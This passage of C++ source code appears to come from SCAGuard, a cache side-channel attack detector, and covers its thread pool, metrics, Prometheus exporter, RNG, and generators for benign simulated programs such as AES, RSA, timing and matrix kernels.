      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20)
          out += strfmt("\\u%04x", static_cast<unsigned>(c));
        else
          out += c;
    }
  }
  out += '"';
  return out;
}

}  // namespace scag
