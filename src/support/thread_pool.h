// A small reusable thread pool with dynamically load-balanced index
// parallelism. Built for the batch-scan engine (core::BatchDetector) but
// generic: any embarrassingly parallel loop over [0, n) can use it.
//
// Design notes:
//   - Workers are spawned once and persist; each parallel_for publishes one
//     job and wakes them. Work is claimed in `grain`-sized chunks from a
//     shared atomic cursor, so fast workers steal the tail of slow workers'
//     ranges (dynamic scheduling ~ work stealing over a single deque).
//   - The calling thread participates, so a pool of size 1 still makes
//     progress and `threads == 1` degenerates to a serial loop.
//   - Exceptions thrown by `fn` are captured (first one wins), the job is
//     drained, and the exception is rethrown on the calling thread.
//   - parallel_for calls on the same pool are serialized by a mutex; the
//     pool itself is safe to share between threads.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <exception>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

namespace scag::support {

class ThreadPool {
 public:
  /// threads == 0 picks hardware_threads(). The pool spawns threads-1
  /// workers; the caller of parallel_for is the remaining lane.
  explicit ThreadPool(std::size_t threads = 0);
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  /// Total parallel lanes (workers + the calling thread).
  std::size_t size() const { return workers_.size() + 1; }

  /// Runs fn(i) for every i in [0, n), distributing `grain`-sized chunks
  /// across all lanes. Blocks until every index is processed. Rethrows the
  /// first exception thrown by fn.
  void parallel_for(std::size_t n, const std::function<void(std::size_t)>& fn,
                    std::size_t grain = 1);

  /// std::thread::hardware_concurrency with a floor of 1.
  static std::size_t hardware_threads();

 private:
  struct Job {
    std::size_t n = 0;
    std::size_t grain = 1;
    const std::function<void(std::size_t)>* fn = nullptr;
    std::atomic<std::size_t> cursor{0};
    std::atomic<std::size_t> lanes_active{0};
    std::exception_ptr error;        // guarded by error_mu
    std::mutex error_mu;
  };

  void worker_loop();
  /// Claims and runs chunks of `job` until the cursor is exhausted.
  static void drain(Job& job);

  std::vector<std::thread> workers_;

  std::mutex mu_;                    // guards job_/generation_/stop_
  std::condition_variable wake_;     // workers wait here for a new job
  std::condition_variable done_;     // parallel_for waits here for drain
  Job* job_ = nullptr;
  std::uint64_t generation_ = 0;
  bool stop_ = false;

  std::mutex run_mu_;                // serializes parallel_for calls
};

}  // namespace scag::support
