// Production metrics for the scan pipeline: a process-wide registry of
// monotonic counters, fixed-bucket latency histograms, and RAII scoped
// timers with nanosecond resolution.
//
// Design goals (see docs/library-guide.md "Metrics & tracing"):
//   - Thread-safe: counters and histogram buckets are relaxed atomics, so
//     the batch-scan worker threads record without coordination.
//   - Low-overhead: hot call sites resolve their instrument once into a
//     function-local static reference; recording is then one predictable
//     branch (the runtime enable flag) plus one atomic add. Registered
//     instruments are never removed, so cached references stay valid for
//     the process lifetime.
//   - Removable: compiling with -DSCAG_METRICS_OFF (CMake option
//     SCAG_METRICS_OFF) replaces every class with an inline no-op; call
//     sites compile unchanged and the instrumentation costs nothing.
//
// Usage:
//   static support::Counter& cells =
//       support::Registry::global().counter("dtw.dp_cells");
//   cells.add(row_cells);
//
//   static support::Histogram& lat =
//       support::Registry::global().histogram("scan.latency_ns");
//   { support::ScopedTimer t(lat); do_scan(); }
//
// Snapshots export to JSON and to a human-readable table regardless of
// mode (in no-op mode they are empty).
#pragma once

#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

namespace scag::support {

/// Monotonic nanoseconds from a steady (never-adjusted) clock.
std::uint64_t monotonic_ns();

// ---------------------------------------------------------------------------
// Snapshot types: plain data, identical in both modes.

struct CounterSample {
  std::string name;
  std::uint64_t value = 0;
};

struct HistogramSample {
  struct Bucket {
    std::uint64_t upper_ns = 0;  // inclusive upper bound of the bucket
    std::uint64_t count = 0;
  };
  std::string name;
  std::uint64_t count = 0;
  std::uint64_t sum_ns = 0;
  std::uint64_t min_ns = 0;
  std::uint64_t max_ns = 0;
  std::vector<Bucket> buckets;  // non-empty buckets only, ascending

  double mean_ns() const {
    return count == 0 ? 0.0
                      : static_cast<double>(sum_ns) / static_cast<double>(count);
  }
  /// Bucket-upper-bound estimate of the q-quantile (q in [0, 1]).
  std::uint64_t percentile_ns(double q) const;
};

struct MetricsSnapshot {
  std::vector<CounterSample> counters;      // sorted by name
  std::vector<HistogramSample> histograms;  // sorted by name

  /// {"counters": {...}, "histograms": {...}} — see the library guide for
  /// the schema.
  std::string to_json() const;
  /// Column-aligned tables for terminal output.
  std::string to_table() const;
};

#ifdef SCAG_METRICS_OFF

// ---------------------------------------------------------------------------
// No-op mode: every operation is an empty inline, snapshots are empty.

inline bool metrics_enabled() { return false; }
inline void set_metrics_enabled(bool) {}

class Counter {
 public:
  void add(std::uint64_t = 1) {}
  std::uint64_t value() const { return 0; }
  void reset() {}
};

class Histogram {
 public:
  void record_ns(std::uint64_t) {}
  void reset() {}
  HistogramSample sample(std::string name) const {
    HistogramSample s;
    s.name = std::move(name);
    return s;
  }
};

class Registry {
 public:
  static Registry& global() {
    static Registry r;
    return r;
  }
  static constexpr bool compiled_in() { return false; }
  Counter& counter(std::string_view) { return counter_; }
  Histogram& histogram(std::string_view) { return histogram_; }
  MetricsSnapshot snapshot() const { return {}; }
  void reset() {}

 private:
  Counter counter_;
  Histogram histogram_;
};

class ScopedTimer {
 public:
  explicit ScopedTimer(Histogram&) {}
  ScopedTimer(const ScopedTimer&) = delete;
  ScopedTimer& operator=(const ScopedTimer&) = delete;
};

#else  // SCAG_METRICS_OFF not defined: the real implementation.

/// Runtime gate shared by every instrument: when false, recording is
/// skipped after one relaxed atomic load. Defaults to true.
bool metrics_enabled();
void set_metrics_enabled(bool enabled);

/// A monotonically increasing counter. add() is wait-free.
class Counter {
 public:
  void add(std::uint64_t n = 1) {
    if (metrics_enabled()) value_.fetch_add(n, std::memory_order_relaxed);
  }
  std::uint64_t value() const { return value_.load(std::memory_order_relaxed); }
  void reset() { value_.store(0, std::memory_order_relaxed); }

 private:
  std::atomic<std::uint64_t> value_{0};
};

/// A fixed-bucket latency histogram over nanoseconds. Buckets are powers
/// of two: bucket k holds values in [2^(k-1), 2^k), i.e. upper bound
/// 2^k - 1; values beyond the last bucket clamp into it. Recording is two
/// relaxed atomic adds plus bounded min/max updates.
class Histogram {
 public:
  static constexpr std::size_t kNumBuckets = 40;  // 2^39 ns ~ 9.2 minutes

  void record_ns(std::uint64_t ns);
  void reset();
  HistogramSample sample(std::string name) const;

 private:
  std::atomic<std::uint64_t> buckets_[kNumBuckets] = {};
  std::atomic<std::uint64_t> count_{0};
  std::atomic<std::uint64_t> sum_{0};
  std::atomic<std::uint64_t> min_{~std::uint64_t{0}};
  std::atomic<std::uint64_t> max_{0};
};

/// The process-wide instrument registry. Lookups take a mutex — resolve
/// once and cache the reference (instruments are never deallocated):
///   static Counter& c = Registry::global().counter("scan.pairs");
class Registry {
 public:
  static Registry& global();
  static constexpr bool compiled_in() { return true; }

  Counter& counter(std::string_view name);
  Histogram& histogram(std::string_view name);

  /// Consistent-enough snapshot (each value is read atomically).
  MetricsSnapshot snapshot() const;
  /// Zeroes every registered instrument (names stay registered).
  void reset();

 private:
  mutable std::mutex mu_;
  std::map<std::string, std::unique_ptr<Counter>, std::less<>> counters_;
  std::map<std::string, std::unique_ptr<Histogram>, std::less<>> histograms_;
};

/// Records the elapsed wall time into a histogram on destruction. When
/// metrics are disabled at construction time, the clock is never read.
class ScopedTimer {
 public:
  explicit ScopedTimer(Histogram& h)
      : histogram_(&h), start_ns_(metrics_enabled() ? monotonic_ns() : 0) {}
  ~ScopedTimer() {
    if (start_ns_ != 0) histogram_->record_ns(monotonic_ns() - start_ns_);
  }
  ScopedTimer(const ScopedTimer&) = delete;
  ScopedTimer& operator=(const ScopedTimer&) = delete;

 private:
  Histogram* histogram_;
  std::uint64_t start_ns_;
};

#endif  // SCAG_METRICS_OFF

}  // namespace scag::support
