// Prometheus text exposition (text/plain; version=0.0.4) of the metrics
// registry, plus a minimal blocking Unix-socket stats listener — the
// `/stats` surface the streaming daemon (`scagd`, ROADMAP) will mount,
// served today by `scagctl stats serve`.
//
// Mapping (see docs/observability.md "Prometheus exposition"):
//   - Counter "dtw.dp_cells"  -> `scag_dtw_dp_cells_total` (TYPE counter)
//   - Histogram "scan.latency_ns" -> `scag_scan_latency_ns_bucket{le="..."}`
//     cumulative pow2 buckets + `_sum` + `_count` (TYPE histogram)
//   - Metric names sanitize every character outside [a-zA-Z0-9_] to `_`
//     and carry the `scag_` namespace prefix.
//
// The renderer consumes a MetricsSnapshot, so it works identically in
// -DSCAG_METRICS_OFF builds (the snapshot is simply empty) and needs no
// special no-op twin. The parser/validator exist so `scagctl top` and the
// test suite can consume the format without a Prometheus client library.
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "support/metrics.h"

namespace scag::support::prom {

/// The Content-Type the 0.0.4 text format must be served under.
inline constexpr std::string_view kContentType =
    "text/plain; version=0.0.4";

/// Sanitizes an instrument name into a Prometheus metric name: `scag_`
/// prefix, every character outside [a-zA-Z0-9_] replaced by `_`.
std::string prometheus_name(std::string_view instrument_name);

/// Renders a snapshot as 0.0.4 exposition text: counters as
/// `<name>_total`, histograms as cumulative `_bucket{le=...}` series
/// (upper bounds in nanoseconds, closed with `le="+Inf"`) plus `_sum` and
/// `_count`, each preceded by `# HELP` / `# TYPE` lines. Output order is
/// the snapshot's (sorted by instrument name), so identical registries
/// render byte-identical text.
std::string to_prometheus_text(const MetricsSnapshot& snapshot);

/// One parsed sample line: `name{labels} value`.
struct PromSample {
  std::string name;
  std::map<std::string, std::string> labels;
  double value = 0.0;
};

struct PromText {
  std::vector<PromSample> samples;
  std::map<std::string, std::string> types;  // metric name -> TYPE value
};

/// Parses exposition text. Returns nullopt on any malformed line (the
/// validator's error message names the first offender via `error`).
std::optional<PromText> parse_prometheus_text(std::string_view text,
                                              std::string* error = nullptr);

/// True when `text` is well-formed 0.0.4 exposition: every line is a
/// comment or a parseable sample, every sample's metric has a preceding
/// `# TYPE`, histogram `_bucket` series are cumulative and closed by
/// `le="+Inf"`, and `_count` matches the `+Inf` bucket. On failure,
/// `error` (if non-null) describes the first violation.
bool validate_prometheus_text(std::string_view text,
                              std::string* error = nullptr);

/// Minimal blocking HTTP/1.0 listener on a Unix-domain socket. Each
/// accepted connection gets a fresh snapshot rendered by `render` and is
/// closed; requests are served strictly one at a time (scagd will own a
/// real event loop — this is the bring-up surface behind it).
class StatsServer {
 public:
  /// Binds and listens; throws std::runtime_error on socket errors
  /// (including a stale socket file that cannot be replaced).
  explicit StatsServer(const std::string& socket_path);
  ~StatsServer();
  StatsServer(const StatsServer&) = delete;
  StatsServer& operator=(const StatsServer&) = delete;

  /// Serves exactly `max_requests` connections (0 = forever), calling
  /// `render()` per request for the response body. Returns the number of
  /// requests served.
  std::size_t serve(std::size_t max_requests,
                    const std::function<std::string()>& render);

  const std::string& socket_path() const { return path_; }

 private:
  std::string path_;
  int listen_fd_ = -1;
};

/// One-shot client for the listener above: connects, sends a GET,
/// returns the response body (headers stripped). Throws
/// std::runtime_error on connection or protocol failure. Lets check.sh
/// and the tests exercise the socket without depending on curl.
std::string fetch_stats(const std::string& socket_path);

}  // namespace scag::support::prom
