// Deterministic pseudo-random number generation for reproducible experiments.
//
// Every stochastic component in SCAGuard (dataset mutation, benign workload
// generation, ML training shuffles, ...) draws from an explicitly seeded Rng
// so that the whole evaluation pipeline is reproducible bit-for-bit.
#pragma once

#include <cstdint>
#include <limits>
#include <stdexcept>
#include <vector>

namespace scag {

/// xoshiro256** PRNG with a SplitMix64 seeding sequence.
///
/// Satisfies the UniformRandomBitGenerator requirements so it can be used
/// with <random> distributions, but also offers the convenience helpers the
/// codebase actually needs (bounded ints, doubles, bernoulli, shuffle, pick).
class Rng {
 public:
  using result_type = std::uint64_t;

  explicit Rng(std::uint64_t seed = 0x5ca6'0a2d'd00d'f00dULL) { reseed(seed); }

  /// Re-initializes the full 256-bit state from a 64-bit seed.
  void reseed(std::uint64_t seed);

  static constexpr result_type min() { return 0; }
  static constexpr result_type max() {
    return std::numeric_limits<result_type>::max();
  }

  result_type operator()() { return next(); }

  /// Next raw 64-bit value.
  std::uint64_t next();

  /// Uniform integer in [lo, hi] inclusive. Requires lo <= hi.
  std::uint64_t uniform(std::uint64_t lo, std::uint64_t hi);

  /// Uniform integer in [0, n). Requires n > 0.
  std::uint64_t below(std::uint64_t n);

  /// Uniform double in [0, 1).
  double uniform01();

  /// Uniform double in [lo, hi).
  double uniform_real(double lo, double hi);

  /// Bernoulli trial with success probability p (clamped to [0,1]).
  bool chance(double p);

  /// Approximately normal deviate (sum of uniforms; adequate for jitter).
  double gaussian(double mean, double stddev);

  /// Fisher-Yates shuffle.
  template <typename T>
  void shuffle(std::vector<T>& v) {
    if (v.size() < 2) return;
    for (std::size_t i = v.size() - 1; i > 0; --i) {
      std::size_t j = static_cast<std::size_t>(below(i + 1));
      using std::swap;
      swap(v[i], v[j]);
    }
  }

  /// Uniformly picks one element of a non-empty vector.
  template <typename T>
  const T& pick(const std::vector<T>& v) {
    if (v.empty()) throw std::invalid_argument("Rng::pick: empty vector");
    return v[static_cast<std::size_t>(below(v.size()))];
  }

  /// Derives an independent child generator; useful to give each dataset
  /// sample its own stream so insertion order does not perturb siblings.
  Rng split();

 private:
  std::uint64_t s_[4] = {};
};

}  // namespace scag
