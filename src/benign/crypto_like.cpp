// Cryptographic kernels: table-based AES rounds and square-and-multiply
// modular exponentiation. These perform heavy key-dependent memory access
// and key-dependent branching — exactly the programs a naive CSCA detector
// false-positives on, which is why the paper includes them.
#include "benign/registry.h"

#include "isa/builder.h"

namespace scag::benign {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

std::int64_t rand_base(Rng& rng, std::int64_t region) {
  // Line-granular placement: samples differ in which cache sets their data
  // occupies, and distinct regions do not systematically alias.
  return region + static_cast<std::int64_t>(rng.below(0x100000) & ~0x3fULL);
}

}  // namespace

isa::Program aes_ttables(Rng& rng) {
  const std::int64_t tbl = rand_base(rng, 0xA200'0000);
  const std::int64_t rounds = static_cast<std::int64_t>(rng.uniform(10, 14));
  const std::int64_t blocks = static_cast<std::int64_t>(rng.uniform(8, 32));

  ProgramBuilder b("benign-aes");
  // Four 256-entry T-tables (one per state byte position).
  Rng local = rng.split();
  for (int t = 0; t < 4; ++t)
    for (int e = 0; e < 256; ++e)
      b.data_word(static_cast<std::uint64_t>(tbl + t * 0x1000 + e * 8),
                  local.next());
  const std::int64_t key = static_cast<std::int64_t>(rng.next() | 1);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::R12), imm(key));          // round key material
  b.mov(reg(Reg::RCX), imm(blocks));
  b.label("block_loop");
  b.mov(reg(Reg::RAX), reg(Reg::RCX));
  b.imul(reg(Reg::RAX), imm(0x9E3779B9));  // "plaintext"
  b.mov(reg(Reg::RDX), imm(rounds));
  b.label("round_loop");
  // Four T-table lookups indexed by the state bytes.
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.and_(reg(Reg::RBX), imm(255));
  b.mov(reg(Reg::R8), mem_idx(Reg::R15, Reg::RBX, 8, tbl));
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.shr(reg(Reg::RBX), imm(8));
  b.and_(reg(Reg::RBX), imm(255));
  b.mov(reg(Reg::R9), mem_idx(Reg::R15, Reg::RBX, 8, tbl + 0x1000));
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.shr(reg(Reg::RBX), imm(16));
  b.and_(reg(Reg::RBX), imm(255));
  b.mov(reg(Reg::R10), mem_idx(Reg::R15, Reg::RBX, 8, tbl + 0x2000));
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.shr(reg(Reg::RBX), imm(24));
  b.and_(reg(Reg::RBX), imm(255));
  b.mov(reg(Reg::R11), mem_idx(Reg::R15, Reg::RBX, 8, tbl + 0x3000));
  // Mix.
  b.xor_(reg(Reg::R8), reg(Reg::R9));
  b.xor_(reg(Reg::R10), reg(Reg::R11));
  b.xor_(reg(Reg::R8), reg(Reg::R10));
  b.xor_(reg(Reg::RAX), reg(Reg::R8));
  b.xor_(reg(Reg::RAX), reg(Reg::R12));
  b.dec(reg(Reg::RDX));
  b.jne("round_loop");
  // Store ciphertext block.
  b.mov(mem_idx(Reg::R15, Reg::RCX, 8, tbl - 0x10000), reg(Reg::RAX));
  b.dec(reg(Reg::RCX));
  b.jne("block_loop");
  b.hlt();
  return b.build();
}

isa::Program rsa_modexp(Rng& rng) {
  const std::int64_t out = rand_base(rng, 0xA400'0000);
  // Secret exponent: key-dependent branch pattern.
  const std::int64_t exponent =
      static_cast<std::int64_t>(rng.next() | (1ULL << 62));
  const std::int64_t modulus =
      static_cast<std::int64_t>(rng.uniform(1'000'003, 100'000'003)) | 1;

  ProgramBuilder b("benign-modexp");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::R8), imm(exponent));
  b.mov(reg(Reg::RAX), imm(1));  // result
  b.mov(reg(Reg::RBX),
        imm(static_cast<std::int64_t>(rng.uniform(2, 65537))));  // base
  b.mov(reg(Reg::RCX), imm(63));
  b.label("bit_loop");
  // result = result^2 "mod" m (mask keeps magnitudes bounded).
  b.imul(reg(Reg::RAX), reg(Reg::RAX));
  b.and_(reg(Reg::RAX), imm(modulus));
  // If the key bit is set: result *= base (the classic SM leak shape).
  b.mov(reg(Reg::RDX), reg(Reg::R8));
  b.shr(reg(Reg::RDX), reg(Reg::RCX));
  b.and_(reg(Reg::RDX), imm(1));
  b.test(reg(Reg::RDX), reg(Reg::RDX));
  b.je("skip_mul");
  b.imul(reg(Reg::RAX), reg(Reg::RBX));
  b.and_(reg(Reg::RAX), imm(modulus));
  b.mov(mem_idx(Reg::R15, Reg::RCX, 8, out), reg(Reg::RAX));  // trace buffer
  b.label("skip_mul");
  b.dec(reg(Reg::RCX));
  b.cmp(reg(Reg::RCX), imm(0));
  b.jge("bit_loop");
  b.mov(mem_abs(out - 0x1000), reg(Reg::RAX));
  b.hlt();
  return b.build();
}

isa::Program stream_cipher(Rng& rng) {
  const std::int64_t sbox = rand_base(rng, 0xA600'0000);
  const std::int64_t msg = rand_base(rng, 0xA800'0000);
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(200, 800));

  ProgramBuilder b("benign-streamcipher");
  Rng local = rng.split();
  for (int e = 0; e < 256; ++e)
    b.data_word(static_cast<std::uint64_t>(sbox + e * 8), local.next());
  b.data_region(static_cast<std::uint64_t>(msg),
                static_cast<std::uint64_t>(len * 8), 0x5c5c5c5c);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::R8), imm(static_cast<std::int64_t>(rng.next() | 1)));
  b.mov(reg(Reg::RDI), imm(0));
  b.label("xor_loop");
  // keystream = sbox[(state >> 5) & 255]; state = state*prime + i
  b.mov(reg(Reg::RBX), reg(Reg::R8));
  b.shr(reg(Reg::RBX), imm(5));
  b.and_(reg(Reg::RBX), imm(255));
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RBX, 8, sbox));
  b.xor_(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, msg));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, msg), reg(Reg::RAX));
  b.imul(reg(Reg::R8), imm(6364136223846793005LL));
  b.add(reg(Reg::R8), reg(Reg::RDI));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(len));
  b.jl("xor_loop");
  b.hlt();
  return b.build();
}

}  // namespace scag::benign
