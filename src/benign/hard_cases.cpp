// Hard benign cases: legitimate programs whose HPC profiles resemble
// attacks. Self-profiling code reads rdtscp; persistent-memory commit
// paths execute clflush after stores; latency microbenchmarks time loads.
// These are the programs that force a detector to look at *structure*
// (as SCAGuard does) instead of raw counter signatures.
#include "benign/registry.h"

#include "isa/builder.h"

namespace scag::benign {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

std::int64_t rand_base(Rng& rng, std::int64_t region) {
  return region + static_cast<std::int64_t>(rng.below(0x100000) & ~0x3fULL);
}

}  // namespace

isa::Program timed_kernel(Rng& rng) {
  // Benchmark harness: repeatedly times a streaming kernel with rdtscp and
  // stores the elapsed cycles (exactly what perf-style self-profiling does).
  const std::int64_t data = rand_base(rng, 0xB200'0000);
  const std::int64_t times = rand_base(rng, 0xB400'0000);
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(128, 512));
  const std::int64_t reps = static_cast<std::int64_t>(rng.uniform(6, 16));

  ProgramBuilder b("benign-timedkernel");
  b.data_region(static_cast<std::uint64_t>(data),
                static_cast<std::uint64_t>(len * 8), 9);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(reps));
  b.label("rep_loop");
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::R10), imm(0));
  b.label("kernel");
  b.add(reg(Reg::R10), mem_idx(Reg::R15, Reg::RDI, 8, data));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(len));
  b.jl("kernel");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mov(mem_idx(Reg::R15, Reg::RCX, 8, times), reg(Reg::R9));
  b.dec(reg(Reg::RCX));
  b.jne("rep_loop");
  b.mov(mem_abs(times - 0x1000), reg(Reg::R10));
  b.hlt();
  return b.build();
}

isa::Program flush_writeback(Rng& rng) {
  // Persistent-memory commit path: write a log buffer, then clflush each
  // written line and fence (databases and pmem libraries do exactly this).
  const std::int64_t log = rand_base(rng, 0xB600'0000);
  const std::int64_t entries = static_cast<std::int64_t>(rng.uniform(24, 96));
  const std::int64_t txns = static_cast<std::int64_t>(rng.uniform(4, 12));

  ProgramBuilder b("benign-flushwb");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(txns));
  b.mov(reg(Reg::R8), imm(static_cast<std::int64_t>(rng.next() | 1)));
  b.label("txn_loop");
  // Write phase: append entries (one per cache line).
  b.mov(reg(Reg::RDI), imm(0));
  b.label("write_loop");
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.shl(reg(Reg::RAX), imm(6));  // line stride
  b.imul(reg(Reg::R8), imm(6364136223846793005LL));
  b.mov(mem(Reg::RAX, log), reg(Reg::R8));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(entries));
  b.jl("write_loop");
  // Commit phase: flush every written line, then fence.
  b.mov(reg(Reg::RDI), imm(0));
  b.label("commit_loop");
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.shl(reg(Reg::RAX), imm(6));
  b.clflush(mem(Reg::RAX, log));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(entries));
  b.jl("commit_loop");
  b.mfence();
  b.dec(reg(Reg::RCX));
  b.jne("txn_loop");
  b.hlt();
  return b.build();
}

isa::Program timed_lookup(Rng& rng) {
  // Latency microbenchmark: times individual random table lookups and
  // records each latency (cache-latency profilers look like this).
  const std::int64_t table = rand_base(rng, 0xB800'0000);
  const std::int64_t lat = rand_base(rng, 0xBA00'0000);
  const std::int64_t tbl_len = 1LL << rng.uniform(6, 9);  // 64..512 lines
  const std::int64_t probes = static_cast<std::int64_t>(rng.uniform(64, 256));

  ProgramBuilder b("benign-timedlookup");
  b.data_region(static_cast<std::uint64_t>(table),
                static_cast<std::uint64_t>(tbl_len * 64), 11);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(probes));
  b.mov(reg(Reg::R10), imm(static_cast<std::int64_t>(rng.next() | 1)));
  b.label("probe_loop");
  b.imul(reg(Reg::R10), imm(6364136223846793005LL));
  b.add(reg(Reg::R10), imm(12345));
  b.mov(reg(Reg::RBX), reg(Reg::R10));
  b.shr(reg(Reg::RBX), imm(23));
  b.and_(reg(Reg::RBX), imm(tbl_len - 1));
  b.shl(reg(Reg::RBX), imm(6));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RAX), mem(Reg::RBX, table));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mov(mem_idx(Reg::R15, Reg::RCX, 8, lat), reg(Reg::R9));
  b.dec(reg(Reg::RCX));
  b.jne("probe_loop");
  b.hlt();
  return b.build();
}

}  // namespace scag::benign
