// Benign program generators — the Table III substitute.
//
// Four categories mirroring the paper's benign dataset: SPEC-like compute
// kernels, LeetCode-style algorithm solutions, cryptographic kernels
// (table-based AES and square-and-multiply RSA — the classic
// false-positive bait, since they perform heavy key-dependent memory
// access), and server-application-style loops. Every template is
// parameterized by an Rng so each generated sample differs in sizes,
// constants, data layout, and loop structure.
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "isa/program.h"
#include "support/rng.h"

namespace scag::benign {

struct BenignSpec {
  std::string name;
  std::string category;  // "SPEC2006" | "LeetCode" | "Encryption" | "Server"
  std::function<isa::Program(Rng&)> build;
};

// ---- SPEC-like kernels ----------------------------------------------------
isa::Program matmul(Rng& rng);         // blocked matrix multiply
isa::Program stream_triad(Rng& rng);   // a[i] = b[i] + k*c[i]
isa::Program pointer_chase(Rng& rng);  // mcf-style linked traversal
isa::Program stencil(Rng& rng);        // 1-D 3-point stencil sweeps
isa::Program histogram(Rng& rng);      // data-dependent binning

// ---- LeetCode-style solutions ----------------------------------------------
isa::Program two_sum(Rng& rng);
isa::Program binary_search(Rng& rng);
isa::Program fibonacci_dp(Rng& rng);
isa::Program max_subarray(Rng& rng);   // Kadane
isa::Program sieve(Rng& rng);          // Eratosthenes
isa::Program reverse_array(Rng& rng);
isa::Program quicksort(Rng& rng);      // iterative, explicit range stack
isa::Program graph_bfs(Rng& rng);      // array-queue BFS over a random graph

// ---- Cryptographic kernels --------------------------------------------------
isa::Program aes_ttables(Rng& rng);    // 4 T-tables, key-dependent lookups
isa::Program rsa_modexp(Rng& rng);     // square-and-multiply, key-bit branches
isa::Program stream_cipher(Rng& rng);  // S-box driven XOR stream

// ---- Server-application style ----------------------------------------------
isa::Program hashtable_server(Rng& rng);  // request loop with table probes
isa::Program parser_checksum(Rng& rng);   // buffer scan + checksum
isa::Program lz_window_copy(Rng& rng);    // gzip-ish window copies

// ---- Hard cases: benign programs with attack-like HPC profiles -------------
isa::Program timed_kernel(Rng& rng);      // self-profiling benchmark (rdtscp)
isa::Program flush_writeback(Rng& rng);   // pmem-style commit (clflush+fence)
isa::Program timed_lookup(Rng& rng);      // load-latency microbenchmark

/// All benign templates.
const std::vector<BenignSpec>& all_benign_templates();

/// Deterministically generates the i-th benign sample: templates are cycled
/// and each instance draws its parameters from `rng`.
isa::Program generate_benign(std::size_t index, Rng& rng);

}  // namespace scag::benign
