// SPEC-like compute kernels: dense linear algebra, streaming, pointer
// chasing, stencils, and histogramming — the "different degrees of memory
// accesses" the paper's benign set covers.
#include "benign/registry.h"

#include "isa/builder.h"

namespace scag::benign {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

/// Randomized data-segment base so layouts differ across samples.
std::int64_t rand_base(Rng& rng, std::int64_t region) {
  // Line-granular placement: samples differ in which cache sets their data
  // occupies, and distinct regions do not systematically alias.
  return region + static_cast<std::int64_t>(rng.below(0x100000) & ~0x3fULL);
}

}  // namespace

isa::Program matmul(Rng& rng) {
  const std::int64_t n = static_cast<std::int64_t>(rng.uniform(6, 12));
  const std::int64_t a_base = rand_base(rng, 0x8000'0000);
  const std::int64_t b_base = rand_base(rng, 0x8200'0000);
  const std::int64_t c_base = rand_base(rng, 0x8400'0000);

  ProgramBuilder b("benign-matmul");
  b.data_region(static_cast<std::uint64_t>(a_base),
                static_cast<std::uint64_t>(n * n * 8), rng.next() % 97);
  b.data_region(static_cast<std::uint64_t>(b_base),
                static_cast<std::uint64_t>(n * n * 8), rng.next() % 89);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RDI), imm(0));  // i
  b.label("i_loop");
  b.mov(reg(Reg::RSI), imm(0));  // j
  b.label("j_loop");
  b.mov(reg(Reg::RDX), imm(0));  // k
  b.mov(reg(Reg::R10), imm(0));  // acc
  b.label("k_loop");
  // acc += A[i*n+k] * B[k*n+j]
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(n));
  b.add(reg(Reg::RAX), reg(Reg::RDX));
  b.mov(reg(Reg::R8), mem_idx(Reg::R15, Reg::RAX, 8, a_base));
  b.mov(reg(Reg::RBX), reg(Reg::RDX));
  b.imul(reg(Reg::RBX), imm(n));
  b.add(reg(Reg::RBX), reg(Reg::RSI));
  b.mov(reg(Reg::R9), mem_idx(Reg::R15, Reg::RBX, 8, b_base));
  b.imul(reg(Reg::R8), reg(Reg::R9));
  b.add(reg(Reg::R10), reg(Reg::R8));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(n));
  b.jl("k_loop");
  // C[i*n+j] = acc
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(n));
  b.add(reg(Reg::RAX), reg(Reg::RSI));
  b.mov(mem_idx(Reg::R15, Reg::RAX, 8, c_base), reg(Reg::R10));
  b.inc(reg(Reg::RSI));
  b.cmp(reg(Reg::RSI), imm(n));
  b.jl("j_loop");
  b.inc(reg(Reg::RDI));
